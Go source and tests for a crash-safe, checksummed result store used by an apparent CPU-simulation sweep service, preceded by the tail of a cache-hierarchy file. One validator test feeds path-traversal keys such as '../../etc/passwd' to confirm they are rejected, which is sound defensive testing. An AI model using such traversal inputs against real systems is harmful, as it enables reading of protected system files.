		if h.L1D[c].Contains(la, now) {
			return true
		}
	}
	return h.L2.Contains(la, now)
}

// LFBOccupancy exposes core's LFB pressure at cycle now.
func (h *Hierarchy) LFBOccupancy(core int, now uint64) int {
	return h.LFBs[core].Occupancy(now)
}

// LineBytes returns the cache line size.
func (h *Hierarchy) LineBytes() int { return h.lineSz }
