// Package store is the crash-safe, content-addressed result store behind
// the sweep service and the CLIs' -store flag: a directory of checksummed
// entries keyed by (result-context hash, cell key), written atomically and
// verified on every read.
//
// The durability contract is "never serve a wrong or partial result":
//
//   - Writes go to a unique temp file in the entry's directory, are fsynced,
//     and land under their final name with a single rename. A crash at any
//     point leaves either the old entry, the new entry, or a stale temp file
//     that the next Open sweeps away — never a half-written entry under a
//     served name.
//   - Every entry carries its payload length and SHA-256 in a header line.
//     A read that finds a truncated, oversized, bit-flipped, or mislabelled
//     entry quarantines the file (moves it aside for postmortems) and
//     reports a miss, so the caller re-simulates instead of trusting it.
//   - A store whose directory cannot be created or written degrades to
//     read-only: gets still work (and still verify), puts return
//     ErrReadOnly, and the caller keeps running without a cache.
//
// Concurrent writers of the same key are safe: each writes its own temp
// file, renames race, and last-writer-wins — both payloads are complete and
// (for deterministic producers) identical anyway.
package store

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
)

// Schema versions the on-disk entry header. Bump it when the entry format
// changes; old entries then read as corrupt and are re-simulated.
const Schema = "specasan-store/v1"

// tmpPrefix marks in-progress writes. Files with this prefix are never
// served and are swept by Open (a crash between temp-write and rename leaves
// one behind).
const tmpPrefix = ".tmp-"

// quarantineDir collects entries that failed verification, preserved for
// postmortems instead of being silently deleted.
const quarantineDir = "quarantine"

// ErrReadOnly is returned by Put when the store is in read-only mode
// (directory unwritable at Open, or writes started failing).
var ErrReadOnly = errors.New("store: read-only")

// ErrCorrupt marks an entry that failed verification; the file has been
// quarantined and the caller should treat the key as a miss.
var ErrCorrupt = errors.New("store: corrupt entry")

// keyPart validates the two halves of a Key: filesystem-safe, no path
// tricks, non-empty, and never starting with a dot or dash (no hidden files,
// no flag-lookalikes, and the temp prefix stays unforgeable). Callers derive
// safe names with scenario.CellKey.
var keyPart = regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9._-]*$`)

// Key addresses one entry: Space is the result-context hash (which
// run-semantics the entry was produced under), Name the cell key within it.
type Key struct {
	Space string
	Name  string
}

func (k Key) check() error {
	if !keyPart.MatchString(k.Space) || !keyPart.MatchString(k.Name) {
		return fmt.Errorf("store: bad key %q/%q (want %s)", k.Space, k.Name, keyPart)
	}
	if k.Space == quarantineDir {
		return fmt.Errorf("store: key space %q is reserved", k.Space)
	}
	return nil
}

// String renders the key as space/name.
func (k Key) String() string { return k.Space + "/" + k.Name }

// header is the first line of every entry file.
type header struct {
	Schema string `json:"schema"`
	Space  string `json:"space"`
	Name   string `json:"name"`
	Len    int64  `json:"len"`
	SHA256 string `json:"sha256"`
}

// Counters is a snapshot of the store's activity since Open.
type Counters struct {
	Hits        uint64 `json:"hits"`
	Misses      uint64 `json:"misses"`
	Puts        uint64 `json:"puts"`
	PutErrors   uint64 `json:"put_errors"`
	Quarantined uint64 `json:"quarantined"`
	Pruned      uint64 `json:"pruned"`
}

// Store is one on-disk result store rooted at a directory.
type Store struct {
	root string

	mu       sync.Mutex
	readOnly bool
	n        Counters
}

// Open prepares the store at root, creating the directory if needed and
// sweeping stale temp files from interrupted writes. A root that cannot be
// created or written does not fail Open: the store degrades to read-only
// (ReadOnly reports true, Put returns ErrReadOnly) so callers keep running
// without durability rather than not at all.
func Open(root string) (*Store, error) {
	if root == "" {
		return nil, errors.New("store: empty root")
	}
	s := &Store{root: root}
	if err := os.MkdirAll(root, 0o755); err != nil {
		s.readOnly = true
		return s, nil
	}
	// Probe writability the way Put will use it: a temp file in root.
	probe, err := os.CreateTemp(root, tmpPrefix+"probe-")
	if err != nil {
		s.readOnly = true
		return s, nil
	}
	probe.Close()
	os.Remove(probe.Name())
	s.sweepTemps()
	return s, nil
}

// sweepTemps removes temp files left by interrupted writes. Only files with
// the temp prefix are touched; racing with a live writer is harmless because
// live writers hold their temp file open only briefly and recreate on error.
func (s *Store) sweepTemps() {
	spaces, err := os.ReadDir(s.root)
	if err != nil {
		return
	}
	for _, sp := range spaces {
		if strings.HasPrefix(sp.Name(), tmpPrefix) {
			os.Remove(filepath.Join(s.root, sp.Name()))
			continue
		}
		if !sp.IsDir() || sp.Name() == quarantineDir {
			continue
		}
		dir := filepath.Join(s.root, sp.Name())
		entries, err := os.ReadDir(dir)
		if err != nil {
			continue
		}
		for _, e := range entries {
			if strings.HasPrefix(e.Name(), tmpPrefix) {
				os.Remove(filepath.Join(dir, e.Name()))
			}
		}
	}
}

// Root returns the store's directory.
func (s *Store) Root() string { return s.root }

// ReadOnly reports whether the store has degraded to read-only mode.
func (s *Store) ReadOnly() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.readOnly
}

// Stats returns a snapshot of the activity counters.
func (s *Store) Stats() Counters {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.n
}

func (s *Store) path(k Key) string {
	return filepath.Join(s.root, k.Space, k.Name+".entry")
}

// Get returns the payload stored under k. ok=false with a nil error is a
// plain miss. An entry that fails verification (truncated, bit-flipped,
// mislabelled, wrong schema) is quarantined and reported as a miss with
// ErrCorrupt, so callers can log it; they must re-simulate either way.
func (s *Store) Get(k Key) (payload []byte, ok bool, err error) {
	if err := k.check(); err != nil {
		return nil, false, err
	}
	f, err := os.Open(s.path(k))
	if err != nil {
		s.count(func(n *Counters) { n.Misses++ })
		if os.IsNotExist(err) {
			return nil, false, nil
		}
		return nil, false, fmt.Errorf("store: %w", err)
	}
	payload, verr := readEntry(f, k)
	f.Close()
	if verr != nil {
		s.quarantine(k, verr)
		return nil, false, fmt.Errorf("%w: %s: %v", ErrCorrupt, k, verr)
	}
	s.count(func(n *Counters) { n.Hits++ })
	return payload, true, nil
}

// readEntry parses and verifies one entry file against the key it was
// opened under.
func readEntry(f *os.File, k Key) ([]byte, error) {
	r := bufio.NewReader(f)
	line, err := r.ReadBytes('\n')
	if err != nil {
		return nil, fmt.Errorf("header: %v", err)
	}
	var h header
	if err := json.Unmarshal(line, &h); err != nil {
		return nil, fmt.Errorf("header: %v", err)
	}
	if h.Schema != Schema {
		return nil, fmt.Errorf("schema %q (want %q)", h.Schema, Schema)
	}
	if h.Space != k.Space || h.Name != k.Name {
		return nil, fmt.Errorf("entry labelled %s/%s, filed under %s", h.Space, h.Name, k)
	}
	if h.Len < 0 {
		return nil, fmt.Errorf("negative payload length %d", h.Len)
	}
	payload := make([]byte, h.Len)
	if _, err := io.ReadFull(r, payload); err != nil {
		return nil, fmt.Errorf("payload truncated: %v", err)
	}
	// The declared length must account for the whole file: trailing bytes
	// mean the header and payload disagree about what this entry is.
	if _, err := r.ReadByte(); err == nil {
		return nil, errors.New("trailing data after payload")
	}
	sum := sha256.Sum256(payload)
	if got := hex.EncodeToString(sum[:]); got != h.SHA256 {
		return nil, fmt.Errorf("sha256 %s != header %s", got, h.SHA256)
	}
	return payload, nil
}

// quarantine moves a failed entry into the quarantine directory under a
// collision-free name. If the move fails (read-only filesystem) the file is
// left in place; it will fail verification again on the next read, so it is
// still never served.
func (s *Store) quarantine(k Key, reason error) {
	s.count(func(n *Counters) { n.Quarantined++ })
	qdir := filepath.Join(s.root, quarantineDir)
	if err := os.MkdirAll(qdir, 0o755); err != nil {
		return
	}
	base := k.Space + "__" + k.Name
	dst := filepath.Join(qdir, base+".entry")
	for i := 1; ; i++ {
		if _, err := os.Lstat(dst); os.IsNotExist(err) {
			break
		}
		dst = filepath.Join(qdir, fmt.Sprintf("%s.%d.entry", base, i))
	}
	os.Rename(s.path(k), dst)
}

// Put stores payload under k atomically: temp file, fsync, rename. In
// read-only mode it returns ErrReadOnly without touching the disk; a write
// failure that looks like the medium became unwritable (permissions, no
// space, read-only filesystem) flips the store into read-only mode so later
// puts shed immediately.
func (s *Store) Put(k Key, payload []byte) error {
	if err := k.check(); err != nil {
		return err
	}
	if s.ReadOnly() {
		return ErrReadOnly
	}
	if err := s.put(k, payload); err != nil {
		s.count(func(n *Counters) { n.PutErrors++ })
		if unwritable(err) {
			s.mu.Lock()
			s.readOnly = true
			s.mu.Unlock()
		}
		return fmt.Errorf("store: put %s: %w", k, err)
	}
	s.count(func(n *Counters) { n.Puts++ })
	return nil
}

func (s *Store) put(k Key, payload []byte) error {
	dir := filepath.Join(s.root, k.Space)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	sum := sha256.Sum256(payload)
	h := header{
		Schema: Schema,
		Space:  k.Space,
		Name:   k.Name,
		Len:    int64(len(payload)),
		SHA256: hex.EncodeToString(sum[:]),
	}
	hb, err := json.Marshal(&h)
	if err != nil {
		return err
	}
	f, err := os.CreateTemp(dir, tmpPrefix+k.Name+"-")
	if err != nil {
		return err
	}
	tmp := f.Name()
	cleanup := func(err error) error {
		f.Close()
		os.Remove(tmp)
		return err
	}
	if _, err := f.Write(append(hb, '\n')); err != nil {
		return cleanup(err)
	}
	if _, err := f.Write(payload); err != nil {
		return cleanup(err)
	}
	if err := f.Sync(); err != nil {
		return cleanup(err)
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	if err := os.Rename(tmp, s.path(k)); err != nil {
		os.Remove(tmp)
		return err
	}
	syncDir(dir)
	return nil
}

// syncDir fsyncs a directory so the rename that just landed in it survives a
// crash. Best-effort: some filesystems reject directory fsync.
func syncDir(dir string) {
	d, err := os.Open(dir)
	if err != nil {
		return
	}
	d.Sync()
	d.Close()
}

// unwritable reports whether err suggests the store medium itself rejects
// writes (as opposed to a transient or entry-specific failure).
func unwritable(err error) bool {
	return os.IsPermission(err) ||
		errors.Is(err, errors.ErrUnsupported) ||
		strings.Contains(err.Error(), "read-only file system") ||
		strings.Contains(err.Error(), "no space left")
}

func (s *Store) count(f func(*Counters)) {
	s.mu.Lock()
	f(&s.n)
	s.mu.Unlock()
}

// Prune evicts complete entries, oldest modification time first, until the
// store's entry bytes fit under maxBytes. Temp files and the quarantine
// directory are never counted or touched (sweepTemps and postmortems own
// those). Losing an entry only costs a re-simulation, so eviction needs no
// coordination with readers: a racing Get either wins the open or misses.
// Returns how many entries were removed and how many bytes they held.
// maxBytes <= 0 and read-only stores are no-ops.
func (s *Store) Prune(maxBytes int64) (removed int, freed int64, err error) {
	if maxBytes <= 0 || s.ReadOnly() {
		return 0, 0, nil
	}
	type entry struct {
		path  string
		size  int64
		mtime int64
	}
	var entries []entry
	var total int64
	spaces, err := os.ReadDir(s.root)
	if err != nil {
		return 0, 0, fmt.Errorf("store: prune: %w", err)
	}
	for _, sp := range spaces {
		if !sp.IsDir() || sp.Name() == quarantineDir {
			continue
		}
		dir := filepath.Join(s.root, sp.Name())
		files, err := os.ReadDir(dir)
		if err != nil {
			continue
		}
		for _, f := range files {
			if !strings.HasSuffix(f.Name(), ".entry") || strings.HasPrefix(f.Name(), tmpPrefix) {
				continue
			}
			info, err := f.Info()
			if err != nil {
				continue
			}
			entries = append(entries, entry{
				path:  filepath.Join(dir, f.Name()),
				size:  info.Size(),
				mtime: info.ModTime().UnixNano(),
			})
			total += info.Size()
		}
	}
	sort.Slice(entries, func(i, j int) bool {
		if entries[i].mtime != entries[j].mtime {
			return entries[i].mtime < entries[j].mtime
		}
		return entries[i].path < entries[j].path // deterministic tiebreak
	})
	for _, e := range entries {
		if total <= maxBytes {
			break
		}
		if err := os.Remove(e.path); err != nil {
			if os.IsNotExist(err) {
				total -= e.size // someone else removed it; still freed
				continue
			}
			return removed, freed, fmt.Errorf("store: prune %s: %w", e.path, err)
		}
		total -= e.size
		freed += e.size
		removed++
	}
	if removed > 0 {
		s.count(func(n *Counters) { n.Pruned += uint64(removed) })
	}
	return removed, freed, nil
}

// GetJSON unmarshals the payload stored under k into v. Misses and corrupt
// entries (quarantined inside Get) report ok=false; a payload that is not
// valid JSON for v also quarantines and misses, because a structurally
// unreadable entry must never masquerade as a result.
func (s *Store) GetJSON(k Key, v any) (ok bool, err error) {
	payload, ok, err := s.Get(k)
	if !ok {
		return false, err
	}
	if jerr := json.Unmarshal(payload, v); jerr != nil {
		s.quarantine(k, jerr)
		return false, fmt.Errorf("%w: %s: %v", ErrCorrupt, k, jerr)
	}
	return true, nil
}

// PutJSON marshals v and stores it under k.
func (s *Store) PutJSON(k Key, v any) error {
	payload, err := json.Marshal(v)
	if err != nil {
		return fmt.Errorf("store: marshal %s: %w", k, err)
	}
	return s.Put(k, payload)
}
