package store

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

func mustOpen(t *testing.T) *Store {
	t.Helper()
	s, err := Open(t.TempDir())
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	if s.ReadOnly() {
		t.Fatalf("fresh store opened read-only")
	}
	return s
}

var k = Key{Space: "abc123", Name: "505.mcf_r__SpecASan-deadbeef"}

func TestPutGetRoundTrip(t *testing.T) {
	s := mustOpen(t)
	payload := []byte(`{"cycles":12345,"committed":678}`)
	if err := s.Put(k, payload); err != nil {
		t.Fatalf("Put: %v", err)
	}
	got, ok, err := s.Get(k)
	if err != nil || !ok {
		t.Fatalf("Get: ok=%v err=%v", ok, err)
	}
	if !bytes.Equal(got, payload) {
		t.Fatalf("payload mismatch: %q vs %q", got, payload)
	}
	n := s.Stats()
	if n.Puts != 1 || n.Hits != 1 || n.Misses != 0 || n.Quarantined != 0 {
		t.Fatalf("counters %+v", n)
	}
}

func TestMissIsClean(t *testing.T) {
	s := mustOpen(t)
	got, ok, err := s.Get(k)
	if got != nil || ok || err != nil {
		t.Fatalf("miss: %v %v %v", got, ok, err)
	}
	if s.Stats().Misses != 1 {
		t.Fatalf("miss not counted: %+v", s.Stats())
	}
}

func TestBadKeysRejected(t *testing.T) {
	s := mustOpen(t)
	for _, bad := range []Key{
		{Space: "", Name: "x"},
		{Space: "a", Name: ""},
		{Space: "../escape", Name: "x"},
		{Space: "a", Name: "../../etc/passwd"},
		{Space: "a", Name: "x/y"},
		{Space: quarantineDir, Name: "x"},
		{Space: ".hidden", Name: "x"},
	} {
		if err := s.Put(bad, []byte("p")); err == nil {
			t.Errorf("Put(%v) accepted", bad)
		}
		if _, _, err := s.Get(bad); err == nil {
			t.Errorf("Get(%v) accepted", bad)
		}
	}
}

// corrupt applies f to the entry file behind k.
func corrupt(t *testing.T, s *Store, k Key, f func([]byte) []byte) {
	t.Helper()
	path := s.path(k)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read entry: %v", err)
	}
	if err := os.WriteFile(path, f(b), 0o644); err != nil {
		t.Fatalf("rewrite entry: %v", err)
	}
}

// wantCorruptMiss asserts Get reports a quarantining miss, and that a
// subsequent Get is a plain miss (the entry is gone from the served path).
func wantCorruptMiss(t *testing.T, s *Store, k Key) {
	t.Helper()
	got, ok, err := s.Get(k)
	if got != nil || ok {
		t.Fatalf("corrupt entry served: %q", got)
	}
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("want ErrCorrupt, got %v", err)
	}
	if _, err := os.Lstat(s.path(k)); !os.IsNotExist(err) {
		t.Fatalf("corrupt entry still in place: %v", err)
	}
	if _, ok, err := s.Get(k); ok || err != nil {
		t.Fatalf("post-quarantine Get: ok=%v err=%v", ok, err)
	}
	// The quarantine directory holds the evidence.
	q, err := os.ReadDir(filepath.Join(s.root, quarantineDir))
	if err != nil || len(q) == 0 {
		t.Fatalf("no quarantined file: %v", err)
	}
}

func TestTruncatedEntryQuarantinedAndMissed(t *testing.T) {
	s := mustOpen(t)
	if err := s.Put(k, []byte(`{"cycles":12345}`)); err != nil {
		t.Fatal(err)
	}
	corrupt(t, s, k, func(b []byte) []byte { return b[:len(b)-5] })
	wantCorruptMiss(t, s, k)
}

func TestBitFlippedPayloadQuarantinedAndMissed(t *testing.T) {
	s := mustOpen(t)
	if err := s.Put(k, []byte(`{"cycles":12345}`)); err != nil {
		t.Fatal(err)
	}
	corrupt(t, s, k, func(b []byte) []byte {
		b[len(b)-3] ^= 0x40 // flip a bit inside the payload
		return b
	})
	wantCorruptMiss(t, s, k)
}

func TestBitFlippedHeaderQuarantinedAndMissed(t *testing.T) {
	s := mustOpen(t)
	if err := s.Put(k, []byte(`{"cycles":12345}`)); err != nil {
		t.Fatal(err)
	}
	corrupt(t, s, k, func(b []byte) []byte {
		i := bytes.IndexByte(b, '\n') - 2 // inside the sha hex
		b[i] ^= 0x01
		return b
	})
	wantCorruptMiss(t, s, k)
}

func TestTrailingDataQuarantinedAndMissed(t *testing.T) {
	s := mustOpen(t)
	if err := s.Put(k, []byte(`{"cycles":12345}`)); err != nil {
		t.Fatal(err)
	}
	corrupt(t, s, k, func(b []byte) []byte { return append(b, "extra"...) })
	wantCorruptMiss(t, s, k)
}

func TestMislabelledEntryQuarantinedAndMissed(t *testing.T) {
	s := mustOpen(t)
	other := Key{Space: k.Space, Name: "other-cell"}
	if err := s.Put(other, []byte(`{"cycles":1}`)); err != nil {
		t.Fatal(err)
	}
	// File a valid entry under the wrong name, as a confused writer or a
	// manual copy would.
	if err := os.Rename(s.path(other), s.path(k)); err != nil {
		t.Fatal(err)
	}
	wantCorruptMiss(t, s, k)
}

func TestUnparsableJSONQuarantinedByGetJSON(t *testing.T) {
	s := mustOpen(t)
	// The checksum protects bytes, not structure: store valid-checksum
	// garbage and ask for typed JSON.
	if err := s.Put(k, []byte("not json")); err != nil {
		t.Fatal(err)
	}
	var v struct{ Cycles uint64 }
	ok, err := s.GetJSON(k, &v)
	if ok || !errors.Is(err, ErrCorrupt) {
		t.Fatalf("GetJSON on garbage: ok=%v err=%v", ok, err)
	}
	if _, err := os.Lstat(s.path(k)); !os.IsNotExist(err) {
		t.Fatalf("garbage entry not quarantined")
	}
}

func TestKillBetweenTempAndRename(t *testing.T) {
	s := mustOpen(t)
	// Simulate a writer that died after writing its temp file but before the
	// rename: a complete temp file sitting next to the entries.
	dir := filepath.Join(s.root, k.Space)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(dir, tmpPrefix+k.Name+"-12345")
	if err := os.WriteFile(tmp, []byte("half-written entry"), 0o644); err != nil {
		t.Fatal(err)
	}
	// The temp file is never served...
	if _, ok, err := s.Get(k); ok || err != nil {
		t.Fatalf("temp file served: ok=%v err=%v", ok, err)
	}
	// ...and the next Open sweeps it.
	s2, err := Open(s.root)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(tmp); !os.IsNotExist(err) {
		t.Fatalf("stale temp survived reopen: %v", err)
	}
	// The reopened store works normally.
	if err := s2.Put(k, []byte("fresh")); err != nil {
		t.Fatal(err)
	}
	if got, ok, _ := s2.Get(k); !ok || string(got) != "fresh" {
		t.Fatalf("post-sweep store broken: %q ok=%v", got, ok)
	}
}

func TestConcurrentWritersSameKey(t *testing.T) {
	s := mustOpen(t)
	// Deterministic producers write identical payloads; racing writers must
	// end with one complete, verifiable entry.
	payload := []byte(`{"cycles":42}`)
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if err := s.Put(k, payload); err != nil {
				t.Errorf("Put: %v", err)
			}
		}()
	}
	wg.Wait()
	got, ok, err := s.Get(k)
	if err != nil || !ok || !bytes.Equal(got, payload) {
		t.Fatalf("after racing writers: %q ok=%v err=%v", got, ok, err)
	}
	// No temp litter left behind.
	entries, err := os.ReadDir(filepath.Join(s.root, k.Space))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), tmpPrefix) {
			t.Fatalf("temp file left behind: %s", e.Name())
		}
	}
}

func TestConcurrentReadersAndWriters(t *testing.T) {
	s := mustOpen(t)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		key := Key{Space: "sp", Name: fmt.Sprintf("cell-%d", i)}
		payload := []byte(fmt.Sprintf(`{"cell":%d}`, i))
		wg.Add(2)
		go func() {
			defer wg.Done()
			for j := 0; j < 20; j++ {
				s.Put(key, payload)
			}
		}()
		go func() {
			defer wg.Done()
			for j := 0; j < 20; j++ {
				got, ok, err := s.Get(key)
				if err != nil {
					t.Errorf("Get: %v", err)
				}
				if ok && !bytes.Equal(got, payload) {
					t.Errorf("partial/wrong read: %q", got)
				}
			}
		}()
	}
	wg.Wait()
}

func TestReadOnlyDegradation(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("running as root: directory permissions are not enforced")
	}
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o555); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(dir, 0o755)
	s, err := Open(dir)
	if err != nil {
		t.Fatalf("Open on unwritable dir should degrade, got error: %v", err)
	}
	if !s.ReadOnly() {
		t.Fatalf("store on unwritable dir not read-only")
	}
	if err := s.Put(k, []byte("p")); !errors.Is(err, ErrReadOnly) {
		t.Fatalf("Put in read-only mode: %v", err)
	}
	if _, ok, err := s.Get(k); ok || err != nil {
		t.Fatalf("Get in read-only mode: ok=%v err=%v", ok, err)
	}
}

func TestReadOnlyStoreStillServesExistingEntries(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("running as root: directory permissions are not enforced")
	}
	dir := t.TempDir()
	s1, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := s1.Put(k, []byte("kept")); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o555); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(dir, 0o755)
	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !s2.ReadOnly() {
		t.Fatalf("expected read-only")
	}
	got, ok, err := s2.Get(k)
	if err != nil || !ok || string(got) != "kept" {
		t.Fatalf("read-only Get: %q ok=%v err=%v", got, ok, err)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	s := mustOpen(t)
	type rec struct {
		Cycles   uint64            `json:"cycles"`
		Counters map[string]uint64 `json:"counters"`
	}
	in := rec{Cycles: 9, Counters: map[string]uint64{"b": 2, "a": 1}}
	if err := s.PutJSON(k, &in); err != nil {
		t.Fatal(err)
	}
	var out rec
	ok, err := s.GetJSON(k, &out)
	if err != nil || !ok {
		t.Fatalf("GetJSON: ok=%v err=%v", ok, err)
	}
	if out.Cycles != 9 || out.Counters["a"] != 1 || out.Counters["b"] != 2 {
		t.Fatalf("round trip: %+v", out)
	}
}

func TestQuarantineNamesDoNotCollide(t *testing.T) {
	s := mustOpen(t)
	for i := 0; i < 3; i++ {
		if err := s.Put(k, []byte(`{"n":1}`)); err != nil {
			t.Fatal(err)
		}
		corrupt(t, s, k, func(b []byte) []byte { return b[:len(b)-2] })
		wantsCorrupt := func() {
			if _, _, err := s.Get(k); !errors.Is(err, ErrCorrupt) {
				t.Fatalf("round %d: %v", i, err)
			}
		}
		wantsCorrupt()
	}
	q, err := os.ReadDir(filepath.Join(s.root, quarantineDir))
	if err != nil {
		t.Fatal(err)
	}
	if len(q) != 3 {
		t.Fatalf("want 3 quarantined files, got %d", len(q))
	}
	if s.Stats().Quarantined != 3 {
		t.Fatalf("counters %+v", s.Stats())
	}
}
