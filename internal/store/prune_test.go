package store

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// putAged writes an entry and pins its mtime, so prune-order tests do not
// depend on filesystem timestamp resolution.
func putAged(t *testing.T, s *Store, name string, age time.Time) (path string, size int64) {
	t.Helper()
	key := Key{Space: "abc123", Name: name}
	if err := s.Put(key, []byte(fmt.Sprintf(`{"cell":%q,"pad":"0123456789abcdef"}`, name))); err != nil {
		t.Fatal(err)
	}
	path = filepath.Join(s.root, key.Space, key.Name+".entry")
	if err := os.Chtimes(path, age, age); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return path, info.Size()
}

func TestPruneEvictsOldestFirst(t *testing.T) {
	s := mustOpen(t)
	base := time.Now().Add(-time.Hour)
	var paths []string
	var sizes []int64
	var total int64
	for i := 0; i < 5; i++ {
		p, sz := putAged(t, s, fmt.Sprintf("cell-%d", i), base.Add(time.Duration(i)*time.Minute))
		paths = append(paths, p)
		sizes = append(sizes, sz)
		total += sz
	}

	// A budget that forces exactly the two oldest entries out.
	budget := total - sizes[0] - sizes[1] + 1
	removed, freed, err := s.Prune(budget)
	if err != nil {
		t.Fatal(err)
	}
	if removed != 2 || freed != sizes[0]+sizes[1] {
		t.Fatalf("removed=%d freed=%d, want 2 entries / %d bytes", removed, freed, sizes[0]+sizes[1])
	}
	for i, p := range paths {
		_, err := os.Lstat(p)
		if gone := os.IsNotExist(err); gone != (i < 2) {
			t.Errorf("entry %d: gone=%v (oldest two should be evicted, rest kept)", i, gone)
		}
	}
	if got := s.Stats().Pruned; got != 2 {
		t.Errorf("Pruned counter = %d, want 2", got)
	}

	// Already under budget: nothing to do.
	if removed, freed, err := s.Prune(budget); removed != 0 || freed != 0 || err != nil {
		t.Fatalf("second prune not a no-op: removed=%d freed=%d err=%v", removed, freed, err)
	}
	// Unbounded (<= 0) is a no-op even on an over-full store.
	if removed, _, err := s.Prune(0); removed != 0 || err != nil {
		t.Fatalf("Prune(0) pruned %d entries (err=%v)", removed, err)
	}

	// Surviving entries still serve.
	got, ok, err := s.Get(Key{Space: "abc123", Name: "cell-4"})
	if err != nil || !ok {
		t.Fatalf("survivor unreadable: ok=%v err=%v", ok, err)
	}
	if len(got) == 0 {
		t.Fatal("survivor empty")
	}
}

// Quarantined entries and in-progress temp files are postmortem/writer
// territory: prune must neither count them against the budget nor delete
// them, no matter how old they are.
func TestPruneSparesQuarantineAndTemps(t *testing.T) {
	s := mustOpen(t)
	old := time.Now().Add(-24 * time.Hour)

	qdir := filepath.Join(s.root, quarantineDir)
	if err := os.MkdirAll(qdir, 0o755); err != nil {
		t.Fatal(err)
	}
	qfile := filepath.Join(qdir, "broken.entry")
	if err := os.WriteFile(qfile, []byte("corrupt"), 0o644); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(s.root, "abc123", tmpPrefix+"cell-x-999")
	if err := os.MkdirAll(filepath.Dir(tmp), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tmp, []byte("half-written"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{qfile, tmp} {
		if err := os.Chtimes(p, old, old); err != nil {
			t.Fatal(err)
		}
	}
	putAged(t, s, "real-cell", time.Now())

	// Budget of one byte: every prunable entry must go — but only entries.
	removed, _, err := s.Prune(1)
	if err != nil {
		t.Fatal(err)
	}
	if removed != 1 {
		t.Fatalf("removed %d, want just the one real entry", removed)
	}
	for _, p := range []string{qfile, tmp} {
		if _, err := os.Lstat(p); err != nil {
			t.Errorf("%s touched by prune: %v", p, err)
		}
	}
}

func TestPruneReadOnlyIsNoOp(t *testing.T) {
	if os.Getuid() == 0 {
		t.Skip("running as root: directory permissions are not enforced")
	}
	dir := t.TempDir()
	s1, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	putAged(t, s1, "cell", time.Now().Add(-time.Hour))
	if err := os.Chmod(dir, 0o555); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(dir, 0o755)
	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !s2.ReadOnly() {
		t.Fatal("expected read-only")
	}
	if removed, _, err := s2.Prune(1); removed != 0 || err != nil {
		t.Fatalf("read-only prune acted: removed=%d err=%v", removed, err)
	}
}
